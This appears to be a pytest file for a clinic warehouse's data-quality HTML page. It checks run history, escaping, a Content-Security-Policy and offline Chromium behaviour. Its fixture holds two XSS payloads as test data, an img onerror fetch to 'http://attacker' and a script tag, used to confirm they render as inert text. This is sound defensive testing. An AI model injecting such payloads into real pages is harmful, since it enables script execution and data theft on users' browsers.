"""The data-quality page (validation/pages.py): this night's checks and their history across nights, every
value escaped, nothing loaded from the network, no script run, checked in a real headless Chromium with its
network switched off.

Mutants tried (each made a test here fail): Jinja2's autoescape off (the escaping, CSP and browser tests
fail: the injected <img> and <script> become elements); the Content-Security-Policy meta removed; the
history's `run_id <= $run_id` as `<` (this night missing); `bool_and(success)` as `bool_or` (a check failing
in one of its two rows shows passed); the failed count taken over the history instead of this night.
"""

from __future__ import annotations

import datetime as dt
import importlib.util
import os
from pathlib import Path

import markupsafe
import pytest

from clinic_outcomes import warehouse
from clinic_outcomes.validation.pages import CONTENT_SECURITY_POLICY, HISTORY_RUNS, write_quality_page

HOSTILE_SITE = "<img src=x onerror=fetch('http://attacker')>"
HOSTILE_SCRIPT = "<script>window.pwned = 1</script>"
COLUMNS = (
    "run_id, suite, expectation, column_name, description, severity, dimension, success, element_count, "
    "unexpected_count, unexpected_percent, details, as_of, evaluated_at"
)


def _result(run_id, suite, expectation, column, success, unexpected=0, details=None, severity="warning"):
    as_of = dt.date(2026, 11, 20) + dt.timedelta(days=run_id)
    evaluated = dt.datetime.combine(as_of, dt.time(7, 0), tzinfo=dt.timezone.utc)
    return (run_id, suite, expectation, column, f"{expectation} holds", severity, "conformance", success, 100,
            unexpected, float(unexpected), details, as_of, evaluated)


@pytest.fixture
def con():
    con = warehouse.connect()
    con.execute("create schema quality")
    warehouse.run_sql(con, "ddl/quality_expectation_results")
    rows = []
    for run_id in (1, 2, 3):
        rows.append(_result(run_id, "core_sessions", "expect_column_values_to_be_unique", "session_id", True,
                            severity="critical"))
        # fails on nights 1 and 3 only; night 3's sampled values carry an export's hostile text
        failing = run_id != 2
        rows.append(_result(run_id, "core_needle_sites", "expect_column_values_to_match_regex", "site", not failing,
                            unexpected=2 if failing else 0,
                            details=f"e.g. {HOSTILE_SITE}, {HOSTILE_SCRIPT}" if run_id == 3 else None))
    # on night 3 one check has two rows (the same expectation on two column pairs in one suite): one failed
    rows.append(_result(3, "core_plans", "expect_column_pair_values_a_to_be_greater_than_b", None, True))
    rows.append(_result(3, "core_plans", "expect_column_pair_values_a_to_be_greater_than_b", None, False, unexpected=1))
    con.executemany(f"insert into quality.expectation_results ({COLUMNS}) values ({', '.join('?' * 14)})", rows)
    yield con
    con.close()


def test_the_page_shows_this_nights_checks_and_the_history_of_each(con, tmp_path):
    page = write_quality_page(con, tmp_path / "data-quality", run_id=3)
    text = page.index.read_text(encoding="utf-8")

    assert (page.checks, page.failed) == (3, 2)
    assert "<strong>2 failed</strong>" in text and "Data quality checks: run 3, as of 2026-11-23" in text
    assert [f"run {n}<br>2026-11-2{n}" in text for n in (1, 2, 3)] == [True, True, True]
    history = text.split("<h2>History")[1]
    sites_row = next(row for row in history.split("<tr>") if "expect_column_values_to_match_regex" in row)
    assert sites_row.count('class="failed"') == 2 and sites_row.count('class="passed"') == 1
    plans_row = next(row for row in history.split("<tr>") if "expect_column_pair" in row)
    # the check ran on night 3 only: two blank cells, then failed (its two rows: one failed)
    assert plans_row.count('class="none"') == 2 and "failed (1)" in plans_row


def test_an_earlier_run_page_holds_no_later_night(con, tmp_path):
    page = write_quality_page(con, tmp_path / "q", run_id=2)
    text = page.index.read_text(encoding="utf-8")
    assert (page.checks, page.failed) == (2, 0)
    assert "run 3<br>" not in text


def test_every_value_is_escaped(con, tmp_path):
    text = write_quality_page(con, tmp_path / "q", run_id=3).index.read_text(encoding="utf-8")
    assert HOSTILE_SITE not in text and HOSTILE_SCRIPT not in text
    assert markupsafe.escape(HOSTILE_SITE) in text and markupsafe.escape(HOSTILE_SCRIPT) in text
    assert "<script" not in text and "<img" not in text


def test_the_page_forbids_every_fetch_and_script(con, tmp_path):
    text = write_quality_page(con, tmp_path / "q", run_id=3).index.read_text(encoding="utf-8")
    assert f'<meta http-equiv="Content-Security-Policy" content="{markupsafe.escape(CONTENT_SECURITY_POLICY)}">' in text
    assert CONTENT_SECURITY_POLICY.startswith("default-src 'none';") and "script-src" not in CONTENT_SECURITY_POLICY
    for remote in ("http://", "https://", "//cdn", "src="):
        assert remote not in text.replace(markupsafe.escape(HOSTILE_SITE), "").replace("http://attacker", "")


def test_the_history_keeps_the_last_runs_only(tmp_path):
    con = warehouse.connect()
    con.execute("create schema quality")
    warehouse.run_sql(con, "ddl/quality_expectation_results")
    rows = [_result(n, "core_patients", "expect_column_values_to_not_be_null", "patient_key", True)
            for n in range(1, HISTORY_RUNS + 6)]
    con.executemany(f"insert into quality.expectation_results ({COLUMNS}) values ({', '.join('?' * 14)})", rows)
    text = write_quality_page(con, tmp_path / "q", run_id=HISTORY_RUNS + 5).index.read_text(encoding="utf-8")
    assert text.count("<th>run ") == HISTORY_RUNS
    assert "<th>run 6<br>" in text and "<th>run 5<br>" not in text


# --------------------------------------------------------------------------- in a real browser, offline

CHROMIUM = Path("/usr/bin/chromium")


def _chromium_class():
    """The report's DevTools-pipe driver (tests/report/test_report_browser.py), loaded by path."""
    path = Path(__file__).resolve().parents[1] / "report" / "test_report_browser.py"
    spec = importlib.util.spec_from_file_location("report_browser_driver", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.Chromium


@pytest.mark.browser
@pytest.mark.skipif(
    not CHROMIUM.exists() and os.environ.get("CLINIC_OUTCOMES_REQUIRE_BROWSER") != "1",
    reason="needs Debian's chromium at /usr/bin/chromium (apt-get install chromium)",
)
def test_offline_chromium_loads_nothing_and_runs_no_injected_script(con, tmp_path):
    page = write_quality_page(con, tmp_path / "data-quality", run_id=3)
    browser = _chromium_class()()
    try:
        for domain in ("Runtime.enable", "Log.enable", "Network.enable", "Page.enable"):
            browser.page(domain)
        browser.page("Network.emulateNetworkConditions", offline=True, latency=0, downloadThroughput=-1,
                     uploadThroughput=-1)
        url = page.index.resolve().as_uri()
        browser.page("Page.navigate", url=url)
        browser.wait_for("Page.loadEventFired", timeout=120)
        seen = browser.page(
            "Runtime.evaluate", returnByValue=True,
            expression="""({
                pwned: window.pwned === 1,
                elements: document.querySelectorAll('img, script, iframe, object, embed, link').length,
                text: document.body.innerText,
                rows: document.querySelectorAll('tbody tr').length,
            })""",
        )["result"]["value"]
        events = list(browser.events)
    finally:
        browser.close()

    requested = [e["params"]["request"]["url"] for e in events if e.get("method") == "Network.requestWillBeSent"]
    assert requested == [url]  # the page itself, nothing else
    assert seen["pwned"] is False and seen["elements"] == 0
    assert HOSTILE_SITE in seen["text"] and HOSTILE_SCRIPT in seen["text"]  # shown as text
    assert seen["rows"] == 3 + 3  # this night's three checks, and the history of the same three
    errors = [e for e in events if e.get("method") in ("Runtime.exceptionThrown",)
              or (e.get("method") == "Log.entryAdded" and e["params"]["entry"]["level"] == "error")]
    assert errors == []
